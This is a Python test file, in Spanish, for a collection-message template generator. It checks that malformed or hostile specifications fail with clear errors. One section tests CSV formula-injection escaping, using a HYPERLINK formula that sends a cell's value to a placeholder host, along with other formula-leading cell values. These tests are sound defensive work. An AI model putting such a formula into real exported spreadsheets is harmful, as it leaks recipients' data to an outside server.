"""Especificaciones hostiles o descuidadas: ``generar`` y ``exportar`` explican cada problema
con archivo y línea y salen con 2, sin trazas, sin cuelgues y sin escribir nada."""

from __future__ import annotations

import contextlib
import csv
import io

import pytest
from arbol import SECTOR, TIPO, VARIABLES

ENCABEZADO_1 = "Error: La especificación tiene 1 problema; corrígelo y vuelve a ejecutar:\n"


def _generar(cobro, specs, salida, *extra):
    with contextlib.chdir(specs):  # los archivos, como mensajes/variables.yml
        return cobro("generar", "--specs", specs, "--salida", salida, *extra)


@pytest.mark.parametrize(
    ("ejemplo", "problema"),
    [
        ("mucho", "el ejemplo de un importe debe ser un número entre 0 y 1.000.000.000.000 "
                  "(p. ej. 120.50), no 'mucho'"),
        ("-1e308", "el ejemplo de un importe debe ser un número entre 0 y 1.000.000.000.000 "
                   "(p. ej. 120.50), no '-1e308'"),
        ("-1.0e+308", "el ejemplo de un importe debe ser un número entre 0 y 1.000.000.000.000 "
                      "(p. ej. 120.50), no '-1e+308'"),
        ("1" + "0" * 400, "el ejemplo de un importe debe ser un número entre 0 y "
                          f"1.000.000.000.000 (p. ej. 120.50), no '1{'0' * 39}…'"),
        (".inf", "el ejemplo de un importe debe ser un número entre 0 y 1.000.000.000.000 "
                 "(p. ej. 120.50), no 'inf'"),
        (".nan", "el ejemplo de un importe debe ser un número entre 0 y 1.000.000.000.000 "
                 "(p. ej. 120.50), no 'nan'"),
    ],
    ids=["texto", "negativo-texto", "negativo", "10-a-la-400", "infinito", "nan"],
)
def test_importe_de_ejemplo_que_no_es_un_importe(cobro, arbol, tmp_path, ejemplo, problema):
    specs = arbol(mensajes__variables_yml=VARIABLES.replace("ejemplo: 1234.5",
                                                           f"ejemplo: {ejemplo}"))
    r = _generar(cobro, specs, tmp_path / "s")
    assert r.exit_code == 2
    assert r.output == (ENCABEZADO_1 + "mensajes/variables.yml:12: variables.importe.ejemplo: "
                        + problema + "\n")
    assert not (tmp_path / "s").exists()


@pytest.mark.parametrize(
    ("ejemplo", "linea", "problema"),
    [
        ("ayer", 17, "variables.fecha_vencimiento.ejemplo: el ejemplo de una fecha debe ser una "
                     "fecha real AAAA-MM-DD (p. ej. 2026-03-05), no 'ayer'"),
        ("2026-02-31", 20, "YAML no válido en la columna 14: '2026-02-31' no es una fecha que "
                           "exista; escribe una "
                           "fecha real (AAAA-MM-DD) o, si es un texto, ponlo entre comillas"),
        ("!!int abc", 20, "YAML no válido en la columna 14: 'abc' no es un valor válido para !!int; "
                          "corrige el "
                          "valor o quita la etiqueta"),
    ],
    ids=["ayer", "31-de-febrero", "int-abc"],
)
def test_fecha_de_ejemplo_que_no_es_una_fecha(cobro, arbol, tmp_path, ejemplo, linea, problema):
    specs = arbol(mensajes__variables_yml=VARIABLES.replace("ejemplo: 2026-12-05",
                                                           f"ejemplo: {ejemplo}"))
    r = _generar(cobro, specs, tmp_path / "s")
    assert r.exit_code == 2
    assert r.output == ENCABEZADO_1 + f"mensajes/variables.yml:{linea}: {problema}\n"


def test_ejemplo_de_sector_que_no_es_un_importe(cobro, arbol, tmp_path):
    sector = SECTOR.replace("    en_juego: La reserva.\n",
                            "    en_juego: La reserva.\n    ejemplos:\n      importe: mucho\n")
    r = _generar(cobro, arbol(sectores__turismo_yml=sector), tmp_path / "s")
    assert r.exit_code == 2
    assert r.output == (ENCABEZADO_1 + "sectores/turismo.yml:14: audiencias.b2c.ejemplos.importe: "
                        "el ejemplo de un importe debe ser un número entre 0 y 1.000.000.000.000 "
                        "(p. ej. 120.50), no 'mucho'\n")


def test_nombre_de_sector_demasiado_largo(cobro, arbol, tmp_path):
    nombre = "s" * 250
    specs = arbol(sectores__turismo_yml=SECTOR.replace("nombre: turismo", f"nombre: {nombre}"))
    (specs / "sectores" / "turismo.yml").rename(specs / "sectores" / f"{nombre}.yml")
    r = _generar(cobro, specs, tmp_path / "s")
    assert r.exit_code == 2
    assert r.output == (ENCABEZADO_1 + f"sectores/{nombre}.yml:1: nombre: '{nombre}' no tiene el "
                        "formato esperado (minúsculas, cifras y guiones bajos, empezando por "
                        "letra, hasta 48 caracteres)\n")


@pytest.mark.timeout(60)
def test_un_cuerpo_de_100000_palabras(cobro, arbol, tmp_path):
    largo = "palabra " * 100_000
    tipo = TIPO.replace("[[ en_juego ]]\n  sms:", f"[[ en_juego ]] {largo}\n  sms:")
    r = _generar(cobro, arbol(mensajes__tipos__recordatorio_previo_yml=tipo), tmp_path / "s")
    assert r.exit_code == 2
    assert r.output == (
        ENCABEZADO_1 + "mensajes/tipos/recordatorio_previo.yml:16: canales.email.cuerpo.usted: "
        "el texto tiene 800.098 caracteres y el máximo es 20.000; un mensaje de cobro es mucho "
        "más corto: divídelo o recórtalo\n"
    )


@pytest.mark.timeout(30)
def test_especificacion_anidada_miles_de_niveles(cobro, arbol, tmp_path):
    r = _generar(cobro, arbol(sectores__turismo_yml="x: " + "[" * 50_000 + "]" * 50_000),
                 tmp_path / "s")
    assert r.exit_code == 2
    assert r.output == (ENCABEZADO_1 + "sectores/turismo.yml:1: YAML no válido en la columna 67: está "
                        "anidado a "
                        "más de 64 niveles; una especificación, un front matter o una regla no "
                        "necesitan tantos: simplifica la estructura\n")


def test_especificacion_en_utf16_se_lee(cobro, arbol, tmp_path):
    specs = arbol()
    ruta = specs / "sectores" / "turismo.yml"
    ruta.write_bytes(ruta.read_text(encoding="utf-8").encode("utf-16"))
    r = _generar(cobro, specs, tmp_path / "s")
    assert r.exit_code == 0, r.output


# --- filtros y opciones -----------------------------------------------------------------


@pytest.mark.parametrize("orden", [["generar"], ["exportar", "--formato", "csv"]])
def test_filtros_sin_ninguna_plantilla(cobro, arbol, tmp_path, orden):
    sin_sms = SECTOR.replace("    textos:", "    exclusiones:\n      - motivo: Sin SMS en "
                             "turismo.\n        canal: sms\n    textos:")
    r = cobro(*orden, "--specs", arbol(sectores__turismo_yml=sin_sms), "--salida", tmp_path / "s",
              "--canal", "sms", "--tipo", "recordatorio_previo")
    assert r.exit_code == 2
    assert r.output == ("Error: ninguna plantilla coincide con los filtros (--tipo "
                        "recordatorio_previo --canal sms); 2 combinaciones están excluidas a "
                        "propósito: Sin SMS en turismo. (sectores/turismo.yml). No se ha escrito "
                        "nada: cambia o quita algún filtro.\n")
    assert not (tmp_path / "s").exists()


@pytest.mark.parametrize("opcion", ["--locale", "--sector", "--tipo", "--canal"])
def test_opcion_vacia_no_es_el_valor_por_defecto(cobro, arbol, tmp_path, opcion):
    r = cobro("generar", "--specs", arbol(), "--salida", tmp_path / "s", opcion, "")
    assert r.exit_code == 2
    assert r.output.endswith(f"Error: Valor no válido para '{opcion}': está vacío; indica un "
                             "valor o quita la opción\n")


# --- CSV: inyección de fórmulas -------------------------------------------------------------


FORMULA = '=HYPERLINK("http://ejemplo.invalid/?x="&A1;"pagar")'


def _tabla(ruta) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(ruta.read_text(encoding="utf-8-sig"))))


@pytest.mark.parametrize(("crudo", "esperado"), [((), "'" + FORMULA), (("--csv-crudo",), FORMULA)])
def test_csv_no_exporta_formulas_salvo_con_csv_crudo(cobro, arbol, tmp_path, crudo, esperado):
    tipo = TIPO.replace("titulo: Recordatorio previo", f"titulo: '{FORMULA}'")
    specs = arbol(mensajes__tipos__recordatorio_previo_yml=tipo)
    r = cobro("exportar", "--formato", "csv", "--specs", specs, "--salida", tmp_path / "s", *crudo)
    assert r.exit_code == 0, r.output
    filas = _tabla(tmp_path / "s" / "csv" / "plantillas.csv")
    assert len(filas) == 4
    assert all(f["titulo"].startswith(esperado + " · Turismo (B2C) · ") for f in filas)
    assert {f["sector"] for f in filas} == {"turismo"}


@pytest.mark.parametrize(
    ("valor", "seguro"),
    [("=1+1", "'=1+1"), ("+34 600", "'+34 600"), ("-5", "'-5"), ("@SUMA(A1)", "'@SUMA(A1)"),
     ("\tx", "'\tx"), ("Acme", "Acme"), ("", "")],
)
def test_celdas_de_los_datos_de_word(valor, seguro):
    from generador.exportar.word import datos_csv

    filas = list(csv.reader(io.StringIO(datos_csv({"empresa": valor}).lstrip("\ufeff"))))
    assert filas == [["empresa"], [seguro]]
    crudas = list(csv.reader(io.StringIO(datos_csv({"empresa": valor}, crudo=True).lstrip("\ufeff"))))
    assert crudas == [["empresa"], [valor]]


# --- Mailchimp: una etiqueta literal no se altera ni se cuela ------------------------------


def test_mailchimp_con_etiqueta_literal_no_cambia_el_texto(cobro, arbol, tmp_path):
    import json

    tipo = TIPO.replace('tu: "Tu pago [[ referencia.con_de ]] {{ referencia }}"',
                        'tu: "Tu pago *|FNAME|* {{ referencia }}"')
    specs = arbol(mensajes__tipos__recordatorio_previo_yml=tipo)
    r = cobro("exportar", "--formato", "mailchimp", "--specs", specs, "--salida", tmp_path / "s",
              "--canal", "email")
    assert r.exit_code == 0, r.output
    pid = "turismo-recordatorio_previo-email-tu"
    assert r.stderr == (
        f"Aviso: mailchimp: {pid}: el asunto contiene '*|...|*' literal, que Mandrill leería como "
        "etiqueta y no permite escapar; se exporta sin asunto para no cambiar el texto (el HTML "
        "sí va, escapado): envía con auto_text: true y pon el asunto al enviar, o cambia ese "
        "texto\n"
    )
    tu = json.loads((tmp_path / "s" / "mailchimp" / "turismo" / f"{pid}.json").read_text())
    assert "subject" not in tu
    assert "\u2060" not in json.dumps(tu, ensure_ascii=False)
    assert "Tu pago &#42;&#124;FNAME&#124;&#42; *|REFERENCIA|*" in tu["code"]
    usted = json.loads((tmp_path / "s" / "mailchimp" / "turismo"
                        / "turismo-recordatorio_previo-email-usted.json").read_text())
    assert usted["subject"] == "Su pago de la reserva *|REFERENCIA|*"


@pytest.mark.timeout(30)
@pytest.mark.parametrize("texto", ["de la rese" + "{" * 3000 + "rva", "de la {% raw %}reserva"],
                         ids=["llaves-sin-fin", "logica"])
def test_referencia_con_sintaxis_de_plantilla(cobro, arbol, tmp_path, texto):
    # hallado por benchmarks/fuzz.py: compuesto en el cuerpo, '{{{{…' agotaba la pila de Jinja
    sector = SECTOR.replace("con_de: de la reserva", f"con_de: '{texto}'")
    r = _generar(cobro, arbol(sectores__turismo_yml=sector), tmp_path / "s")
    assert r.exit_code == 2
    assert r.output == (ENCABEZADO_1 + "sectores/turismo.yml:10: audiencias.b2c.referencia.con_de: "
                        "solo se admiten marcadores '{{ variable }}' y ranuras '[[ ranura ]]'; sin "
                        "lógica ({% %}), comentarios ni expresiones\n")


def test_un_sector_roto_da_un_solo_problema_con_la_linea_donde_se_abre_la_lista(
        cobro, raiz, tmp_path):
    """Con el árbol real: un corchete sin cerrar en un sector da su problema (la línea donde
    PyYAML lo nota y dónde se abrió), y no además un «el sector no existe» en los tipos que lo
    nombran en sus exclusiones."""
    import shutil

    specs = tmp_path / "specs"
    for carpeta in ("mensajes", "sectores"):
        shutil.copytree(raiz / carpeta, specs / carpeta)
    turismo = specs / "sectores" / "turismo.yml"
    lineas = turismo.read_text(encoding="utf-8").count("\n")
    turismo.write_text(turismo.read_text(encoding="utf-8") + "extra: [1,\n  2\n",
                       encoding="utf-8")
    r = _generar(cobro, specs, tmp_path / "s")
    assert r.exit_code == 2
    assert r.output == (ENCABEZADO_1 + f"sectores/turismo.yml:{lineas + 3}: YAML no válido en la "
                        "columna 1: una "
                        "lista entre corchetes no se cierra: falta ',' o ']' (se abre 2 líneas "
                        "más arriba)\n")


def test_un_front_matter_con_comillas_sin_cerrar_dice_donde_se_abren(cobro, tmp_path):
    plantilla = tmp_path / "aviso.txt"
    plantilla.write_text('---\nasunto: "sin cerrar\ncanal: email\n---\nHola\n', encoding="utf-8")
    r = cobro("lint", plantilla)
    assert r.exit_code == 2
    assert (f"{plantilla}:4: front matter no válido en la columna 1: una comilla o un bloque no se cierra "
            "(se abre 2 líneas más arriba)") in r.output
